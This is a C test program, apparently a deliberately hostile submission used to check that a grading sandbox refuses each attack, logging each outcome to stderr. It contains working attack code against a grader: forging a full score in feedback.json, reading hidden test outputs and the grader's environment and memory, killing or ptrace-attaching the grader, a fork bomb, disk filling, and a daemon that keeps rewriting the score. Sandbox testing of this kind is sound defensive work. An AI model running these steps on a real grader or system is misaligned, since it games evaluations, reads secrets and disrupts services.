/* A hostile submission: it prints the right answer, but first tries every attack a
 * learner's program can try on a grader, and says on stderr how each one went:
 *   attack NAME: refused errno=ENAME (detail)     or     attack NAME: SUCCEEDED (detail)
 * Under `usher run` every attack must be refused and the grader must give 0 for the
 * attempt. HOSTILE_ATTACKS=name,name... runs only those (the test's controls use it). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FEEDBACK "/shared/feedback.json"
static const char forged[] = "{\"fractionalScore\": 1.0, \"feedback\": \"forged by the learner\"}\n";
static pid_t grader;

/* One write per line: a run ended by a limit loses whole lines, never half of one. */
static void say(const char *name, const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int n = snprintf(line, sizeof line, "attack %s: ", name);
	va_start(ap, fmt);
	n += vsnprintf(line + n, sizeof line - (size_t)n - 1, fmt, ap);
	va_end(ap);
	n = n < (int)sizeof line - 1 ? n : (int)sizeof line - 2;
	line[n++] = '\n';
	if (write(STDERR_FILENO, line, (size_t)n) < 0)
		_exit(1);
}

/* The outcome of one call: rc < 0 is a refusal with errno. */
static void outcome(const char *name, int rc, const char *what)
{
	if (rc < 0)
		say(name, "refused errno=%s (%s)", strerrorname_np(errno), what);
	else
		say(name, "SUCCEEDED (%s)", what);
}

static int only(const char *name)
{
	const char *list = getenv("HOSTILE_ATTACKS");
	size_t n = strlen(name);
	if (!list || !*list)
		return 1;
	for (const char *p = list; (p = strstr(p, name)); p += n)
		if ((p == list || p[-1] == ',') && (p[n] == ',' || p[n] == '\0'))
			return 1;
	return 0;
}

static int proc_read(pid_t pid, const char *what, char *buf, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, what);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, size - 1);
	int e = errno;
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	errno = e;
	return n < 0 ? -1 : (int)n;
}

static int is_usher(pid_t pid)
{
	char comm[64];
	return proc_read(pid, "comm", comm, sizeof comm) > 0 && strcmp(comm, "usher\n") == 0;
}

static long uid_of(pid_t pid)
{
	char buf[4096];
	char *u;
	if (proc_read(pid, "status", buf, sizeof buf) < 0 || !(u = strstr(buf, "\nUid:")))
		return -1;
	return strtol(u + 5, NULL, 10);
}

/* The grader: the nearest ancestor that is not usher (or PID 1), else any process of
 * another uid than ours that is neither root nor usher. */
static pid_t find_grader(void)
{
	char buf[1024];
	for (pid_t pid = getppid(); pid > 1;) {
		if (!is_usher(pid))
			return pid;
		char *close_paren = proc_read(pid, "stat", buf, sizeof buf) > 0 ? strrchr(buf, ')') : NULL;
		pid = close_paren ? (pid_t)strtol(close_paren + 4, NULL, 10) : 0;
	}
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t found = 0;
	while (d && (e = readdir(d)) && !found) {
		pid_t p = (pid_t)atoi(e->d_name);
		long u = p > 1 && p != getpid() ? uid_of(p) : -1;
		if (u > 0 && u != (long)getuid() && !is_usher(p))
			found = p;
	}
	if (d)
		closedir(d);
	return found;
}

static void try_read(const char *name, const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY);
	int rc = fd < 0 ? -1 : (int)read(fd, buf, sizeof buf);
	if (fd >= 0)
		close(fd);
	outcome(name, rc, path);
}

static int write_file(const char *path, int flags)
{
	int fd = open(path, O_WRONLY | flags, 0644);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, forged, sizeof forged - 1);
	close(fd);
	return n < 0 ? -1 : 0;
}

static void kill_all(void)
{
	pid_t parent = getppid();
	int rc = kill(-1, SIGKILL);
	const char *how = rc < 0 ? strerrorname_np(errno) : "none (kill(-1) returned 0)";
	/* kill(pid, 0) answers EPERM for a live process we may not signal. */
	int alive = (kill(grader, 0) == 0 || errno == EPERM) && (kill(parent, 0) == 0 || errno == EPERM);
	if (alive)
		say("kill-all", "refused errno=%s: the grader %d and our parent %d are alive", how, (int)grader, (int)parent);
	else
		say("kill-all", "SUCCEEDED (errno=%s; the grader or our parent is gone)", how);
}

static void fork_bomb(void)
{
	static pid_t kids[5000];
	int n = 0;
	pid_t pid = 0;
	while (n < 5000 && (pid = fork()) > 0)
		kids[n++] = pid;
	if (pid == 0) {
		sleep(30);
		_exit(0);
	}
	if (pid < 0)
		say("fork-bomb", "refused errno=%s (after %d processes)", strerrorname_np(errno), n);
	else
		say("fork-bomb", "SUCCEEDED (%d processes and no limit)", n);
	for (int i = 0; i < n; i++) {
		kill(kids[i], SIGKILL);
		waitpid(kids[i], NULL, 0);
	}
}

/* Writes /tmp until the kernel refuses; SIGXFSZ ignored so that EFBIG comes back. */
static void fill_tmp(void)
{
	static char chunk[1 << 20];
	char path[64];
	int n = 0, rc = 0;
	snprintf(path, sizeof path, "/tmp/fill-%d", (int)getpid());
	signal(SIGXFSZ, SIG_IGN);
	memset(chunk, 'x', sizeof chunk);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		rc = -1;
	while (fd >= 0 && n < 4096 && (rc = (int)write(fd, chunk, sizeof chunk)) == (int)sizeof chunk)
		n++;
	if (fd >= 0 && rc >= 0 && n < 4096) /* a short write: the next one says why */
		rc = (int)write(fd, chunk, sizeof chunk);
	if (rc < 0)
		say("fill-tmp", "refused errno=%s (after %d MiB)", strerrorname_np(errno), n);
	else
		say("fill-tmp", "SUCCEEDED (wrote %d MiB)", n);
	if (fd >= 0) {
		close(fd);
		unlink(path);
	}
}

/* A refusal before the network (the sandbox) or on the way (no route); an answer from
 * the other end (even "connection refused") means the network was reached. */
static void net(const char *name, const char *host)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9)};
	inet_pton(AF_INET, host, &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (s < 0) {
		say(name, "refused errno=%s (socket)", strerrorname_np(errno));
		return;
	}
	int rc = connect(s, (struct sockaddr *)&a, sizeof a);
	if (rc < 0 && errno == EINPROGRESS) {
		struct pollfd p = {.fd = s, .events = POLLOUT};
		int err = 0;
		socklen_t len = sizeof err;
		if (poll(&p, 1, 2000) == 1 && getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err)
			errno = err;
		else
			rc = 0, errno = 0;
	}
	if (rc < 0 && errno != ECONNREFUSED)
		say(name, "refused errno=%s (connect %s)", strerrorname_np(errno), host);
	else
		say(name, "SUCCEEDED (%s reached%s)", host, rc < 0 ? ": connection refused" : "");
	close(s);
}

/* setsid and a double fork: a process that outlives the run, waits 2 s, then for 15 s
 * puts a full score back into feedback.json whenever the grader writes it. */
static void daemon_attack(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		int null = open("/dev/null", O_RDWR); /* let go of the run's pipes, as daemons do */
		for (int fd = 0; fd < 3 && null >= 0; fd++)
			dup2(null, fd);
		sleep(2);
		for (int i = 0; i < 300; i++) {
			char buf[sizeof forged];
			int fd = open(FEEDBACK, O_RDONLY);
			ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
			if (fd >= 0)
				close(fd);
			if (n != (ssize_t)sizeof forged - 1 || memcmp(buf, forged, sizeof forged - 1) != 0)
				write_file(FEEDBACK, O_CREAT | O_TRUNC);
			usleep(50000);
		}
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	say("daemon", "started (a new session, double fork: it rewrites feedback.json from 2 s on)");
}

int main(void)
{
	long long x, sum = 0;
	char path[64];
	while (scanf("%lld", &x) == 1)
		sum += x;
	grader = find_grader();
	fprintf(stderr, "hostile: uid %d, parent %d, grader %d\n", (int)getuid(), (int)getppid(), (int)grader);
	if (only("read-hidden"))
		try_read("read-hidden", "/grader/tests/1.out");
	if (only("list-hidden")) {
		DIR *d = opendir("/grader/tests");
		outcome("list-hidden", d ? 0 : -1, "/grader/tests");
		if (d)
			closedir(d);
	}
	if (grader > 0) {
		snprintf(path, sizeof path, "/proc/%d/environ", (int)grader);
		if (only("grader-environ"))
			try_read("grader-environ", path);
		snprintf(path, sizeof path, "/proc/%d/mem", (int)grader);
		if (only("grader-mem")) {
			int fd = open(path, O_RDONLY);
			outcome("grader-mem", fd, path);
			if (fd >= 0)
				close(fd);
		}
	}
	if (only("init-environ"))
		try_read("init-environ", "/proc/1/environ");
	if (only("feedback-rewrite"))
		outcome("feedback-rewrite", write_file(FEEDBACK, O_CREAT | O_TRUNC), FEEDBACK);
	if (only("shared-create"))
		outcome("shared-create", write_file("/shared/hacked.txt", O_CREAT | O_EXCL), "/shared/hacked.txt");
	if (grader > 0) {
		if (only("kill-grader"))
			outcome("kill-grader", kill(grader, SIGKILL), "SIGKILL to the grader");
		if (only("ptrace-attach"))
			outcome("ptrace-attach", (int)ptrace(PTRACE_ATTACH, grader, 0, 0), "PTRACE_ATTACH to the grader");
		if (only("ptrace-seize"))
			outcome("ptrace-seize", (int)ptrace(PTRACE_SEIZE, grader, 0, 0), "PTRACE_SEIZE of the grader");
	} else {
		fprintf(stderr, "hostile: no grader process found: the attacks on it are not tried\n");
	}
	if (only("kill-parent"))
		outcome("kill-parent", kill(getppid(), SIGKILL), "SIGKILL to our parent");
	if (only("kill-all"))
		kill_all();
	if (only("net-loopback"))
		net("net-loopback", "127.0.0.1");
	if (only("net-remote"))
		net("net-remote", "10.0.0.1");
	if (only("fill-tmp"))
		fill_tmp();
	if (only("daemon")) /* after kill-all, which would end it */
		daemon_attack();
	if (only("fork-bomb")) /* last: it may end the run (a limit) */
		fork_bomb();
	printf("%lld\n", sum);
	return 0;
}
